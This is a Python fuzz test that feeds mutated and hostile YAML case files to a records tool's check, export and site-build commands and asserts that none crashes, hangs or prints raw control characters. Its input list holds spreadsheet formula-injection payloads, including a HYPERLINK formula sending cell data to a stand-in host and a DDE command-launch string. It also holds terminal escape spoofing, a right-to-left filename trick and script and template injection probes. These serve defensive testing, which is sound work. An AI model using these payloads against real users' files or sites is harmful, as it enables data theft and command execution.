"""Property-based fuzzing of the whole tool chain (issue 13, Must show): hypothesis mutates a
valid case file of a copy of this repository (values swapped for hostile text, control
characters and formulas, lines dropped or doubled, raw bytes inserted, or the file replaced by
a symlink, a folder, a FIFO or a huge sparse file), then runs `pelihara check`, `pelihara
export` and `pelihara site build` on the result. None of them may end in an internal error, a
traceback, a hang or a raw control character on the screen; a file that is not a record is a
finding of `check` at its path.

Each example builds a real MkDocs site (a few seconds), so the example count is modest; the
hostile corpus (tests/test_hostile_corpus.py) runs each odd file kind through every command
deterministically.
"""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from helpers import FIXTURES, copy_records, pel
from oddfiles import FAILURE, ODD_KINDS, RAW_CONTROL, guarded, make_odd

NOW = "2026-11-28T10:00"
CASES = sorted(p.relative_to(FIXTURES).as_posix() for p in (FIXTURES / "cases").glob("*/*/*.yaml"))
GUARD_S = 120
"""Wall-clock guard per command: a hang (a FIFO opened for reading) fails the example."""

HOSTILE = st.one_of(
    st.sampled_from(['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+cmd|' /C calc'!A0",
                     "@SUM(1+1)", "-1+1", "\t=1", "\r=1", "\x1b[2K\r\x1b[32mSEMUA BERES",
                     "\u202egnp.exe", "\ufffe", "\uffff", "\x85", "\u2028", "</textarea><script>",
                     "{{ 7*7 }}", "---", "'", '"', "\\", "", " ", "ﷺ" * 50]),
    st.text(st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=30),
)
SCALARS = st.sampled_from(["[]", "{}", "null", "~", "0", "-1", "1e999", "true", "no",
                           '"2026-13-45T99:99"', '"2026-11-28T10:00"', "[a, [b, [c]]]",
                           "!!binary aGk=", "&a x", "*a"])


@st.composite
def text_mutation(draw: st.DrawFn, lines: list[str]) -> tuple[str, int, str]:
    kind = draw(st.sampled_from(["value", "scalar", "drop", "double", "bytes"]))
    index = draw(st.integers(0, len(lines) - 1))
    if kind == "value":
        return kind, index, json.dumps(draw(HOSTILE))  # a YAML double-quoted scalar
    if kind == "scalar":
        return kind, index, draw(SCALARS)
    if kind == "bytes":
        return kind, index, draw(st.text(st.sampled_from("\x00\x07\x1b\x7f\x85\u202e\ufeff"
                                                         "\t\r=+-@:#&*!|>'\"[]{}"),
                                         min_size=1, max_size=6))
    return kind, index, ""


def mutate(text: str, mutations: list[tuple[str, int, str]]) -> bytes:
    lines = text.split("\n")
    for kind, index, value in mutations:
        index %= len(lines)
        line = lines[index]
        key, colon, _ = line.partition(": ")
        if kind in ("value", "scalar") and colon:
            lines[index] = f"{key}: {value}"
        elif kind == "drop":
            del lines[index]
        elif kind == "double":
            lines.insert(index, line)
        elif kind == "bytes":
            cut = len(line) // 2
            lines[index] = line[:cut] + value + line[cut:]
    return "\n".join(lines).encode("utf-8", "surrogatepass")


def assert_clean(command: str, code: int, shown: str) -> None:
    assert code in (0, 1), (command, code, shown[-3000:])
    for word in FAILURE:
        assert word not in shown, (command, shown[-3000:])
    # CSV's own record separator is CRLF (RFC 4180); any other CR came from a record
    assert not RAW_CONTROL.search(shown.replace("\r\n", "\n")), (command, "a raw control "
                                                                    "character was shown")


@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))
@given(data=st.data(), case=st.sampled_from(CASES),
       odd=st.one_of(st.none(), st.sampled_from(ODD_KINDS)))
def test_mutated_records_never_break_check_export_or_site(data: st.DataObject, case: str,
                                                          odd: str | None) -> None:
    with tempfile.TemporaryDirectory(prefix="pelihara-fuzz-") as folder:
        root = copy_records(Path(folder) / "repo", "site", "mkdocs.yml")
        if odd is not None:
            at = make_odd(root, case, odd)
        else:
            lines = (root / case).read_text(encoding="utf-8").split("\n")
            mutations = data.draw(st.lists(text_mutation(lines), min_size=1, max_size=3))
            (root / case).write_bytes(mutate("\n".join(lines), mutations))
        with guarded(GUARD_S):
            code, out, err = pel(root, "check", "--now", NOW)
        assert_clean("check", code, out + err)
        if odd is not None:
            found = rf"^{re.escape(at)}:1:1: (file\.|yaml\.too_large)"
            assert code == 1 and re.search(found, out, re.M), out
        with guarded(GUARD_S):
            code, out, err = pel(root, "export", "cases", "--now", NOW)
        assert_clean("export", code, out + err)
        build = subprocess.run(
            [sys.executable, "-m", "pelihara.cli.main", "site", "build", "--now", NOW, "--out",
             str(Path(folder) / "public"), "--repo", str(root)], cwd=root, capture_output=True,
            text=True, errors="replace", timeout=GUARD_S, stdin=subprocess.DEVNULL)
        assert_clean("site build", build.returncode, build.stdout + build.stderr)
        assert (Path(folder) / "public" / "index.html").is_file()
        shutil.rmtree(Path(folder) / "public")
